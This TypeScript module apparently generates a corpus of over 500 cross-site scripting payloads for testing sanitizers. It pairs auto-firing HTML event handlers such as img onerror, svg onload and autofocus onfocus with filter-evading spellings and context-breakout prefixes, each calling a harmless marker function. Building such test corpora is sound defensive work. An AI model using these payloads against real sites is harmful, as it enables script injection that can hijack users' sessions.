import { SCRIPT_PAYLOADS } from './script-payloads.js';

const RUN = 'top.ran()';

/** Elements whose event fires without any action of the user. */
const ELEMENTS: readonly (readonly [name: string, attributes: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['svg', 'width=9', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['body', 'id=x', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', 'id=y', 'onload'],
  ['marquee', 'width=9', 'onstart'],
  ['p', 'style=animation-name:x tabindex=1 autofocus', 'onanimationstart'],
];

/** Spellings that get around filters, or out of the places where a text can be. */
const SPELLINGS: readonly ((name: string, attributes: string, event: string) => string)[] = [
  (name, attributes, event) => `<${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `<${name} ${attributes} ${event}="${RUN}"></${name}>`,
  (name, attributes, event) => `<${name} ${attributes} ${event}='${RUN}'/>`,
  (name, attributes, event) => `<${name}/${attributes.replaceAll(' ', '/')}/${event}=${RUN}>`,
  (name, attributes, event) => `<${name.toUpperCase()} ${attributes} ${event.toUpperCase()}=${RUN}>`,
  (name, attributes, event) => `<${name}\n${attributes}\n${event}\n=\n${RUN}\n>`,
  (name, attributes, event) => `<${name}\t${attributes}\t${event}=${RUN}`,
  (name, attributes, event) => `<${name} ${attributes} ${event}=&#116;op.ran()>`,
  (name, attributes, event) => `<${name} ${attributes} ${event}="&#x74;op&period;ran&lpar;&rpar;">`,
  (name, attributes, event) => `<${name} ${attributes} ${event}=\`${RUN}\`>`,
  (name, attributes, event) => `<${name} ${event}=${RUN} ${attributes} ${event}=1>`,
  (name, attributes, event) => `"><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `'><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `</title><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `</textarea><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `</style></script><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `--><${name} ${attributes} ${event}=${RUN}><!--`,
  (name, attributes, event) => `]]><${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `<1><${name} ${attributes} ${event}=${RUN}></1>`,
  (name, attributes, event) => `{1}<${name} ${attributes} ${event}=${RUN}>`,
  (name, attributes, event) => `<svg><${name} ${attributes} ${event}=${RUN}></svg>`,
  (name, attributes, event) => `<math><mtext><${name} ${attributes} ${event}=${RUN}></math>`,
  (name, attributes, event) => `<select><${name} ${attributes} ${event}=${RUN}></select>`,
  (name, attributes, event) => `&lt;${name} ${attributes} ${event}=${RUN}&gt;`,
  (name, attributes, event) => `&amp;lt;${name} ${attributes} ${event}=${RUN}&amp;gt;`,
  (name, attributes, event) => `=HYPERLINK("javascript:${RUN}")<${name} ${attributes} ${event}=${RUN}>`,
];

/** The payloads above, and every element in every spelling: over 500. */
export const ALL_PAYLOADS: readonly string[] = [
  ...new Set([...SCRIPT_PAYLOADS, ...ELEMENTS.flatMap((element) => SPELLINGS.map((spell) => spell(...element)))]),
];
